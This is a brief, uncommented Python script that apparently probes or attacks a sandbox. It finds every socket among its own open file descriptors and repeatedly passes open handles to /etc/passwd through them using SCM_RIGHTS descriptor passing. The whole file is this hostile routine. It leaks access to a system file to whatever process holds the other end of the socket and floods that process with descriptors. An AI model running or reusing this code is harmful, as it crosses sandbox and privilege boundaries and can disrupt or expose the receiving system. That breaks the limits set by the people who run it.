import contextlib
import os
import socket
import stat

for name in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError):
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            with socket.socket(fileno=os.dup(int(name))) as channel, open("/etc/passwd") as file:
                channel.settimeout(0.2)
                for _ in range(20):
                    socket.send_fds(channel, [b"\0"], [file.fileno()] * 16)
